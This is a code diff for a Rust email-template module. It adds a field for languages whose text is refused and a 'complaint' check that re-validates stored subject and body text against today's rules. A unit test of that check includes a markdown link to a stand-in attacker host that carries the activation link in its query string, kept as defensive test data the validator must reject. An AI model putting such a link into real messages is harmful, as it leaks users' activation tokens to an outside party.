@@ -16,6 +16,8 @@ pub struct TemplateRow {
     pub name: String,
     /// In the organisation's language, where it is written in it.
     pub subject: String,
+    /// In these languages its text breaks a rule, and the text that ships is sent instead.
+    pub refused: Vec<Language>,
     /// What it is written in.
     pub languages: Vec<Language>,
     pub is_default: bool,
@@ -111,6 +113,14 @@ impl TemplateForm {
             (Some(subject), Some(body)) => Ok(TemplateText { subject, body }),
             _ => Err(errors),
         }
+    }
+}
+
+impl TemplateText {
+    /// Why a text that is kept could not be saved today, if so: rules are added, and other programs write.
+    pub fn complaint(subject: &str, body: &str, kind: TemplateKind) -> Option<String> {
+        let subject = TemplateSubject::parse(subject, kind).err();
+        subject.or_else(|| TemplateBody::parse(body, kind).err()).map(|Invalid(why)| why)
     }
 }
 
@@ -241,6 +251,20 @@ mod tests {
             assert!(message.contains(mend), "{raw:?}: {message}");
         }
         assert!(TemplateBody::parse(&"ü".repeat(20_000), Invitation).is_ok());
+    }
+
+    #[test]
+    fn what_is_kept_is_held_to_the_rules_of_today() {
+        let complaint = |subject, body| TemplateText::complaint(subject, body, Invitation);
+        assert_eq!(complaint("Hi {{ partner_name }}", "Come in: {{ activation_link }}"), None);
+        for (subject, body) in [
+            ("Hi {{", "Hello"),
+            ("Hi", "[x](https://evil.example/?u={{ activation_link }})"),
+            ("Hi {{ activation_link }}", "Hello"),
+            ("", "Hello"),
+        ] {
+            assert!(complaint(subject, body).is_some(), "{subject}: {body}");
+        }
     }
 
     #[test]
